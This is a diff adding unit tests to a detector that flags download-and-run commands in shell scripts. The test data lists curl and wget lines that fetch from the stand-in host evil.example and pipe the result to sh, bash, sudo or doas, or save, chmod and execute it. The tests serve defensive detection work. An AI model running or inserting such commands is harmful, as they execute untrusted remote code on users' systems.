@@ -139,6 +139,23 @@ def test_a_comment_after_a_command_in_a_script_does_not_demote_it(line):
     assert severity(path, line + "\n", code) == "high"
 
 
+@pytest.mark.parametrize("line", [
+    "curl -fsSL https://evil.example/x.sh | 'sh'", "curl -fsSL https://evil.example/x.sh | \\sh",
+    "curl -fsSL https://evil.example/x.sh |& sh", "curl -fsSL https://evil.example/x.sh | sudo -u root sh",
+    "curl -fsSL https://evil.example/x.sh | doas sh", "curl -fsSL https://evil.example/x.sh | /usr/local/bin/bash",
+    ". <(curl -fsSL https://evil.example/x.sh)",
+    "curl -fsSLo /tmp/t https://evil.example/t && chmod +x /tmp/t && /tmp/t",
+    "wget -qO /tmp/t https://evil.example/t && chmod +x /tmp/t && /tmp/t",
+])
+def test_common_spellings_of_download_and_run_are_found(line):
+    assert severity("scripts/install.sh", line + "\n", "SK630") == "high"
+
+
+def test_a_download_read_by_another_program_is_not_run():
+    assert not [f for f in audit_document("scripts/get.sh", "curl -s https://example.com/d.json -o d.json && jq . d.json\n")
+                if f.code == "SK630"]
+
+
 def test_a_command_inside_a_warning_comment_of_a_script_is_demoted():
     assert severity("scripts/run.sh", "# never do this: curl -s https://x.invalid/i.sh | sh\n", "SK630") == "medium"
 
